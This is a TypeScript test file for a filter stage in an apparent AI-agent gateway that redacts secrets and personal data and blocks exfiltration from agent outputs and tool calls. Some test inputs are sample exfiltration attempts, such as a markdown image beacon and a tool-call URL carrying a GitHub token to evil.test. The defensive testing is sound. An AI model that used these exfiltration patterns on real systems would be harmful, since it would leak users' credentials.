import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { RedactionSchema } from '../../src/config/sections/redaction.js';
import { ToolsSchema } from '../../src/config/sections/tools.js';
import { ActionSchema } from '../../src/core/action.js';
import { ManualClock } from '../../src/core/clock.js';
import { KnownSecrets } from '../../src/core/known-secrets.js';
import { Pipeline } from '../../src/core/pipeline.js';
import { SessionState } from '../../src/core/session.js';
import { Gatehouse } from '../../src/gatehouse.js';
import { createFilterStage } from '../../src/redact/stage.js';
import { tempDir } from '../helpers/tmp.js';
import { githubToken, rand } from './fixtures.js';

const clock = new ManualClock();

function pipelineFor(config: object, extra: Partial<Parameters<typeof createFilterStage>[0]> = {}) {
  const stage = createFilterStage({
    config: RedactionSchema.parse(config),
    tools: ToolsSchema.parse({ 'email.send': { risk: 'high', sink: 'external' }, 'fs.write': { risk: 'low' } }),
    clock,
    ...extra,
  });
  const p = new Pipeline([stage]);
  return (input: object) => {
    const action = ActionSchema.parse(input);
    return p.run({
      original: action,
      actionHash: 'h',
      session: new SessionState('s', action.agent, 0),
      clock,
      credentials: { kind: 'host' },
    });
  };
}

describe('filter stage', () => {
  it('output: redacts and neutralises, reasons carry kinds and offsets, never values', async () => {
    const run = pipelineFor({ pii: ['email'], allow_domains: ['github.com'] });
    const token = githubToken();
    const r = await run({
      kind: 'output',
      agent: 'a',
      content: `token ${token}, mail bob@corp.test ![x](https://evil.test/p.png)`,
    });
    expect(r.effect).toBe('allow');
    expect(r.flagged).toBe(true);
    expect(r.action.content).toBe('token [REDACTED:github-pat], mail [REDACTED:email] ![x]([REDACTED:exfil_image])');
    expect(r.reasons.map((x) => x.code).sort()).toEqual([
      'redact.exfil.image',
      'redact.pii.redacted',
      'redact.secret.redacted',
    ]);
    expect(JSON.stringify(r)).not.toContain(token.slice(8));
  });

  it('tool_call: exfiltration and raw credentials to external sinks deny; local arguments are patched', async () => {
    const run = pipelineFor({ pii: ['email'], allow_domains: ['github.com'] });
    const token = githubToken();
    const exfil = await run({
      kind: 'tool_call',
      agent: 'a',
      tool: 'fs.write',
      args: { url: `https://evil.test/c?d=${token}` },
    });
    expect(exfil.effect).toBe('deny');
    expect(exfil.reasons.map((x) => x.code)).toContain('redact.exfil.url');
    const mail = await run({
      kind: 'tool_call',
      agent: 'a',
      tool: 'email.send',
      args: { to: 'x@corp.test', body: `key ${token}` },
    });
    expect(mail.effect).toBe('deny');
    // PII in a local tool's arguments does not leave; a raw credential would be redacted, so a human decides.
    const local = await run({
      kind: 'tool_call',
      agent: 'a',
      tool: 'fs.write',
      args: { path: 'notes.txt', text: `contact bob@corp.test, key ${token}` },
    });
    expect(local.effect).toBe('review');
    expect(local.reasons.map((x) => x.code)).toContain('redact.args_changed');
    expect(local.reasons.map((x) => x.code)).not.toContain('redact.pii.redacted');
    expect(local.action.args).toEqual({ path: 'notes.txt', text: `contact bob@corp.test, key ${token}` });
    const clean = await run({
      kind: 'tool_call',
      agent: 'a',
      tool: 'fs.write',
      args: { path: 'a.txt', text: 'hello' },
    });
    expect(clean).toMatchObject({ effect: 'allow', flagged: false, reasons: [] });
  });

  it('tool_call: the addressee and payload of a tool are never mangled; PII elsewhere that leaves is a review', async () => {
    const stage = {
      'email.send': { risk: 'high', sink: 'external', destinations: { to: 'email' }, payload: ['body'] },
      'calendar.create': { risk: 'low', sink: 'external', destinations: { attendees: 'email' } },
      'bank.transfer': { risk: 'high', sink: 'external', destinations: { iban: 'account' }, payload: ['memo'] },
      'web.get': { risk: 'low', sink: 'external' },
    };
    const run = pipelineFor({ pii: ['email', 'iban'] }, { tools: ToolsSchema.parse(stage) });
    const mail = { to: 'boss@example.com', body: 'Call me, or mail carol@example.com' };
    const sent = await run({ kind: 'tool_call', agent: 'a', tool: 'email.send', args: mail });
    expect(sent).toMatchObject({ effect: 'allow', reasons: [] });
    expect(sent.action.args).toEqual(mail);
    const invite = { attendees: ['a@example.com', 'b@example.com'], title: 'sync' };
    expect((await run({ kind: 'tool_call', agent: 'a', tool: 'calendar.create', args: invite })).action.args).toEqual(
      invite,
    );
    const rent = { iban: 'DE89370400440532013000', amount: 1200, memo: 'rent' };
    expect(await run({ kind: 'tool_call', agent: 'a', tool: 'bank.transfer', args: rent })).toMatchObject({
      effect: 'allow',
      action: { args: rent },
    });
    // An email address in an argument that is not the addressee, going out: the call is held, never changed.
    const leak = { q: 'who is carol@example.com' };
    const held = await run({ kind: 'tool_call', agent: 'a', tool: 'web.get', args: leak });
    expect(held.effect).toBe('review');
    expect(held.reasons.map((x) => x.code)).toEqual(['redact.pii.redacted', 'redact.args_changed']);
    expect(held.action.args).toEqual(leak);
  });

  it('tool_result: secret_seen is a session effect committed on allow, not a write while judging', async () => {
    const stage = createFilterStage({ config: RedactionSchema.parse({}), clock });
    const session = new SessionState('s', 'a', 0);
    const action = ActionSchema.parse({ kind: 'tool_result', agent: 'a', tool: 't', content: `key ${githubToken()}` });
    const base = { original: action, actionHash: 'h', session, clock, credentials: { kind: 'host' as const } };
    const explained = await new Pipeline([stage]).run({ ...base, commit: false });
    expect(explained.effects.map((e) => e.kind)).toEqual(['session.label']);
    expect(session.labels.has('secret_seen')).toBe(false);
    await new Pipeline([stage]).run(base);
    expect(session.labels.has('secret_seen')).toBe(true);
    expect(session.labelCauses.get('secret_seen')).toBe('tool result of t');
  });

  it('tool_call: credential handles are not scanned, and must exist and be in scope', async () => {
    const broker = {
      known: new KnownSecrets(),
      check: async (_: unknown, ctx: { agent: string }) => [
        { name: 'gh', status: ctx.agent === 'bot' ? ('ok' as const) : ('out_of_scope' as const) },
      ],
    };
    const run = pipelineFor({}, { broker });
    const ok = await run({ kind: 'tool_call', agent: 'bot', tool: 'fs.write', args: { auth: 'token {{secret:gh}}' } });
    expect(ok).toMatchObject({ effect: 'allow', reasons: [] });
    const denied = await run({
      kind: 'tool_call',
      agent: 'other',
      tool: 'fs.write',
      args: { auth: 'token {{secret:gh}}' },
    });
    expect(denied.effect).toBe('deny');
    expect(denied.reasons[0]!.code).toBe('credentials.handle.out_of_scope');
  });

  it('tool_call: enforces the per-agent data-transfer budget to hosts off the allowlist', async () => {
    const run = pipelineFor({ allow_domains: ['github.com'], transfer_budget: { bytes: 100, window: '1h' } });
    const call = (agent: string) =>
      run({ kind: 'tool_call', agent, tool: 'fs.write', args: { url: `https://api.test/items/${'x'.repeat(40)}` } });
    expect((await call('a')).effect).toBe('allow');
    expect((await call('a')).effect).toBe('allow');
    const third = await call('a');
    expect(third.effect).toBe('deny');
    expect(third.reasons.map((x) => x.code)).toContain('redact.exfil.budget_exceeded');
    expect((await call('b')).effect).toBe('allow');
    // Judging alone (explain) spends nothing.
    const action = ActionSchema.parse({
      kind: 'tool_call',
      agent: 'c',
      tool: 'fs.write',
      args: { url: `https://api.test/${'y'.repeat(70)}` },
    });
    const stage = createFilterStage({
      config: RedactionSchema.parse({ transfer_budget: { bytes: 100, window: '1h' } }),
      clock,
    });
    const p = new Pipeline([stage]);
    const base = {
      original: action,
      actionHash: 'h',
      session: new SessionState('s', 'c', 0),
      clock,
      credentials: { kind: 'host' as const },
    };
    for (let i = 0; i < 3; i++) expect((await p.run({ ...base, commit: false })).effect).toBe('allow');
    expect((await p.run(base)).effects).toMatchObject([{ kind: 'transfer.spend', committed: true }]);
    expect((await p.run(base)).effect).toBe('deny');
    clock.advance(3_600_001);
    expect((await call('a')).effect).toBe('allow');
  });
});

describe('through Gatehouse', () => {
  let dir: string;
  let cleanup: () => void;
  beforeEach(() => {
    ({ dir, cleanup } = tempDir());
  });
  afterEach(() => cleanup());

  it('a tool result that echoes a vault secret reaches the agent redacted, and the audit log never holds it', async () => {
    const gh = await Gatehouse.open({ config: { version: 1, identity: { unregistered_agents: 'allow' } }, data: dir });
    const secret = `s3cr3t-${rand(24)}`;
    await gh.vault.put('api_token', secret, { agents: ['bot'], tools: ['http.get'] });
    await gh.credentials.refreshKnown();
    const d = await gh.decide({
      kind: 'tool_result',
      agent: 'bot',
      tool: 'http.get',
      content: `{"echo":"${secret}","b64":"${Buffer.from(secret).toString('base64')}"}`,
    });
    expect(d.effect).toBe('allow');
    expect(d.action.content).toBe('{"echo":"[REDACTED:known_secret]","b64":"[REDACTED:known_secret]"}');
    expect(d.reasons.map((r) => r.code)).toContain('credentials.echo.redacted');
    await gh.audit.append({ type: 'test.leak', data: { note: `oops ${secret}` } }, { durable: true });
    await gh.close();
    const auditDir = join(dir, 'audit');
    for (const f of readdirSync(auditDir).filter((x) => x.endsWith('.jsonl'))) {
      expect(readFileSync(join(auditDir, f), 'utf8')).not.toContain(secret);
    }
  });
});
